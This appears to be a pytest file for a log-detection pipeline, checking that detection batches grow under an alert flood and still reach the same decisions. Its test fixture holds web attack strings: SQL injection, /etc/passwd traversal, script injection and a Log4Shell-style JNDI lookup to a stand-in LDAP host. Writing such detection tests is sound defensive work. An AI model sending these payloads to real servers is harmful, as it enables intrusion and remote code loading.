"""A file import's detection batches grow under a flood of alerts (``pipeline/files.py``, DetectionBatches): fewer,
larger batches find the same attacks — the same alerts with the same counts, spans, severity and confidence, the
same incidents and blocks — and every line is stored once, with the position it takes the input to; ordinary
traffic, and an import without detection, keep the usual batches."""

from __future__ import annotations

import hashlib
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest
from sqlalchemy import select

from netwarden.collect.files import LogFile
from netwarden.config import load_settings
from netwarden.pipeline import Pipeline
from netwarden.pipeline import files as files_module
from netwarden.store import writer as writer_module
from netwarden.store.database import Database
from netwarden.store.schema import alerts, events, incidents
from netwarden.store.schema_respond import blocks

# recent enough that the alerts are not history (history never blocks)
T0 = datetime.now(timezone.utc).replace(minute=0, second=0, microsecond=0) - timedelta(hours=2)
PAYLOADS = ["/item.php?id=1%27%20OR%20%271%27%3D%271", "/index.php?page=../../../../etc/passwd",
            "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "/?x=${jndi:ldap://198.51.100.7:1389/a}"]
BATCH = 400  # lines per detection batch; the process writer takes it in 8 parts of 50


def access(src: str, when: datetime, url: str, status: int = 200) -> str:
    return f'{src} - - [{when:%d/%b/%Y:%H:%M:%S} +0000] "GET {url} HTTP/1.1" {status} 512 "-" "Mozilla/5.0"'


CALM = 2 * files_module.FLOOD_GROWTH * BATCH
LINES = 1600 + CALM


def flood_then_calm(path: Path) -> Path:
    """1,600 attack lines, each from one of 400 addresses in turn (most raise a new alert), then ordinary page views
    from 20 addresses (enough for two larger batches and more)."""
    lines = [access(f"198.18.{i % 400 // 200}.{i % 200 + 1}", T0 + timedelta(seconds=i // 4),
                    PAYLOADS[i // 400 % len(PAYLOADS)], 404 if i % 3 else 200) for i in range(1600)]
    lines += [access(f"192.0.2.{i % 20 + 1}", T0 + timedelta(seconds=400 + i // 10), f"/page/{i % 37}.html")
              for i in range(CALM)]
    path.write_text("\n".join(lines) + "\n")
    return path


def ingest(tmp_path: Path, name: str, *, detect: bool = True) -> tuple[Database, list[int]]:
    """The flood imported with the writer process (parts); the number of events in each detection batch."""
    db = Database.open(f"sqlite:///{tmp_path / name}.db")
    settings = load_settings(environ={"NETWARDEN_INGEST_BATCH_SIZE": str(BATCH),
                                      "NETWARDEN_RESPOND_HISTORY_AFTER": "1d"})
    sizes: list[int] = []
    pipeline = Pipeline.from_settings(db, settings, detect=detect, observers=[lambda evs: sizes.append(len(evs))])
    try:
        result = pipeline.ingest_file(flood_then_calm(tmp_path / "flood.log"), "access_log")
        if detect:
            pipeline.response.responder.flush(10)
    finally:
        pipeline.close()
    assert (result.lines, result.events) == (LINES, LINES)
    return db, sizes


@pytest.fixture(autouse=True)
def _writer_process(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(writer_module, "PROCESS_THRESHOLD", 0)  # a small file, imported as a large one is


def test_batches_grow_during_a_flood_and_shrink_after_it(tmp_path: Path) -> None:
    db, sizes = ingest(tmp_path, "grown")
    # the first batch raised hundreds of alerts: larger batches follow while the flood goes on; the first batch of
    # only ordinary views changes no alert, and the usual size is back after it
    larger = files_module.FLOOD_GROWTH * BATCH
    assert sizes[:3] == [BATCH, larger, larger] and sizes[3:] == [BATCH] * ((LINES - BATCH - 2 * larger) // BATCH)
    with db.engine.connect() as conn:
        assert [r[0] for r in conn.execute(select(events.c.line_no).order_by(events.c.id))] == \
            list(range(1, LINES + 1))
    _, without = ingest(tmp_path, "without", detect=False)
    assert without == [BATCH] * (LINES // BATCH)


def decisions(db: Database) -> dict[str, list]:
    """What detection decided, without the wording of factors and recommendations or the choice of samples (which
    describe what the batch saw), the ids and times of writing, and the confidence (compared on its own)."""
    with db.engine.connect() as conn:
        found = sorted((r.kind, r.subkind, r.source, r.signature, r.count, r.first_seen, r.last_seen, r.severity,
                        r.status, r.history, sorted(f["name"] for f in r.factors), r.evidence.get("requests"),
                        r.confidence) for r in conn.execute(select(alerts)))
        linked = sorted((r.source, r.severity, r.first_seen, r.last_seen, r.status)
                        for r in conn.execute(select(incidents)))
        blocked = sorted((r.network, r.state, r.created_by) for r in conn.execute(select(blocks)))
    return {"alerts": found, "incidents": linked, "blocks": blocked}


def test_larger_batches_decide_the_same(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    grown, sizes = ingest(tmp_path, "grown")
    monkeypatch.setattr(files_module, "FLOOD_GROWTH", 1)
    usual, usual_sizes = ingest(tmp_path, "usual")
    assert len(sizes) < len(usual_sizes) == LINES // BATCH
    got, expected = decisions(grown), decisions(usual)
    assert len(expected["alerts"]) == 1600 and len(expected["incidents"]) == 400 and len(expected["blocks"]) == 400
    assert (got["incidents"], got["blocks"]) == (expected["incidents"], expected["blocks"])
    assert [a[:-1] for a in got["alerts"]] == [a[:-1] for a in expected["alerts"]]
    # web attack scores an alert on all that its source did in the batch (the variety of its attacks): in a larger
    # batch it may have seen more of it, never less. Here each 400 lines hold one payload for all 400 sources, so
    # the second payload's alerts saw only two kinds in the usual batches and all four in the larger one
    higher = [g for g, e in zip(got["alerts"], expected["alerts"]) if g[-1] != e[-1]]
    assert all(g[-1] >= e[-1] for g, e in zip(got["alerts"], expected["alerts"]))
    assert {a[1] for a in higher} <= {"traversal"}


def test_parts_of_a_larger_batch_end_where_their_lines_end(tmp_path: Path) -> None:
    path = tmp_path / "lines.log"
    path.write_text("".join(f"line {i}\n" for i in range(26)))
    factors = iter([1, 1, 3, 3, 3, 3, 3, 3, 3, 3, 3, 3, 3])  # asked once per chunk of 2 lines
    with LogFile(path) as log:
        digest = hashlib.sha256()
        chunks = log.chunks(start_offset=0, start_line=0, digest=digest, max_line_bytes=1000, size=2)
        groups = list(files_module._batches(chunks, digest, 4, 2, lambda: next(factors)))
    # a group of 4 lines in parts of 2, then groups of 12 lines in parts of 6; the input ends inside a part
    assert [[len(part) for part, _ in g] for g in groups] == [[2, 2], [6, 6], [6, 4]]
    text = path.read_bytes()
    for group in groups:
        for part, position in group:
            assert position.lines == part[-1].number and position.offset == part[-1].end
            assert position.prefix_sha == hashlib.sha256(text[:position.offset]).hexdigest()



def test_a_larger_batch_ends_at_its_byte_limit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A flood of long lines: a larger batch ends once it holds FLOOD_MAX_BYTES of the input, never below the usual
    size; every line is in one part once, and each part ends where its last line does."""
    path = tmp_path / "long.log"
    path.write_text("".join(f"{i:04d} {'x' * (10 + i % 7 * 20)}\n" for i in range(200)))
    monkeypatch.setattr(files_module, "FLOOD_MAX_BYTES", 1000)
    with LogFile(path) as log:
        digest = hashlib.sha256()
        chunks = log.chunks(start_offset=0, start_line=0, digest=digest, max_line_bytes=1000, size=5)
        groups = list(files_module._batches(chunks, digest, 10, 5, lambda: 8))
    sizes = [sum(len(part) for part, _ in g) for g in groups]
    assert sum(sizes) == 200 and 1 < max(sizes) < 80  # 8 times 10 lines would be 80
    start, numbers = 0, []
    for group, lines in zip(groups, sizes):
        end = group[-1][1].offset
        assert lines >= 10 or group is groups[-1]
        assert end - start < 1000 + sum(line.length for line in group[-1][0][-5:])  # at most one chunk past it
        start = end
        for part, position in group:
            assert position.offset == part[-1].end
            numbers += [line.number for line in part]
    assert numbers == list(range(1, 201))
